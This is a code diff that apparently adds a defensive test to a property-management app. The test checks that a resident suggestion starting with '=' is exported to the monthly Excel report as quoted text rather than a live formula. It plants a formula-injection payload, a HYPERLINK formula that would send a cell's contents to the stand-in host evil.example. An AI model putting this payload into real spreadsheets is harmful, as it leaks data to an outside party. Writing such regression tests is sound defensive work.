@@ -95,3 +95,23 @@ def test_a_long_list_prints_its_first_rows_and_points_to_the_workbook(
     sheet = wb[next(n for n in wb.sheetnames if "超时" in n)]
     listed = [r[2] for r in sheet.iter_rows(min_row=2, values_only=True)]
     assert all(n in listed for n in numbers)
+
+
+def test_a_suggestion_written_as_a_formula_is_text_in_the_workbook(november, office):
+    """CWE-1236: an owner's words starting with = are text in the report's workbook, never a
+    live formula (a HYPERLINK can send cell contents away); the age stays a number."""
+    import zipfile
+
+    from propdesk.followup.models import SuggestionItem
+
+    payload = '=HYPERLINK("http://evil.example/?d="&B2,"详情")'
+    assert SuggestionItem.objects.filter(text="希望增加儿童游乐设施").update(text=payload) == 1
+    data = report_xlsx(monthly_report(office.community, 2026, 11, now=NOW))
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert sheets and not any(b"<f>" in z.read(n) for n in sheets)
+    wb = load_workbook(io.BytesIO(data))
+    sheet = wb[next(n for n in wb.sheetnames if "意见" in n or "建议" in n)]
+    row = next(r for r in sheet.iter_rows(min_row=3) if r[2].value == payload)
+    assert (row[2].data_type, row[2].quotePrefix) == ("s", True)
+    assert row[3].data_type == "n"
